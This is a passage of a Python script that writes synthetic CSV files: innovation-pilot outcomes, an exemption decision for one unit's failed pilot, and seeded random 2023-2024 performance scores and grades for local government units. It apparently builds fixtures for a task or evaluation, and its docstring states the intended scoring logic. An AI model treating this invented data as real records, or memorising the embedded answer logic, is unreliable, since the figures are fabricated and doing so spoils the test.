    """YL03's failed pilot is exempted by decisions.csv; YL08 had none of the safeguards, and its failure counts."""
    rows = [["事项编号", "申报单位", "创新事项", "认定结果", "认定日期"]]
    for number, (code, what, result, day) in enumerate([
        ("YL12", "网格事项一表通", "成功", "2025-06-20"), ("YL03", "岫水冷水鱼订单养殖试点", "未达预期", "2025-09-12"),
        ("YL01", "农机共享合作社", "成功", "2025-10-15"), ("YL08", "柳编电商直播基地", "未达预期", "2025-10-28"),
        ("YL14", "老城停车错时共享", "成功", "2025-11-18"),
    ], 1):
        rows.append([f"CX2025-{number:02d}", code, what, result, day])
    write(root / "innovation/2025.csv", "\ufeff" + rows_text(rows, "\r\n"))
    decisions = [["编号", "决定日期", "类型", "单位", "来源", "记录", "理由"],
                 ["示考容〔2025〕4号", "2025-12-18", "豁免", "YL03", "innovation", "CX2025-02", "先行先试、程序合规、未谋私利，符合容错免责条件"]]
    write(root / "decisions.csv", "\ufeff" + rows_text(decisions, "\r\n"))


def write_history(root):
    random = Random(2023)
    rows = [["年度", "单位编码", "得分", "等次"]]
    best = {2023: ["YL01", "YL02", "YL06", "YL12", "YL14"], 2024: ["YL01", "YL02", "YL03", "YL12", "YL14"]}
    for year in (2023, 2024):
        for unit in UNITS:
            if unit.code == "YL18" and year == 2023:
                continue  # founded since
            score = 9100 + random.below(400) if unit.code in best[year] else min(8990, unit.resolved * 9 + 600 + random.between(-150, 150))
            grade = "优秀" if unit.code in best[year] else "良好" if score >= 8000 else "达标" if score >= 6000 else "诫勉"
            rows.append([str(year), unit.code, fixed(score), grade])
    write(root / "history/2023-2024.csv", "\ufeff" + rows_text(rows, "\r\n"))


def main():
    root = Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT
    for writer in (write_units, write_holidays, write_finance, write_hotline, write_grid, write_survey, write_ratings,
                   write_tasks, write_environment, write_projects, write_checks, write_third_party, write_mystery, write_culture,
                   write_innovation, write_history):
        writer(root)


if __name__ == "__main__":
    main()
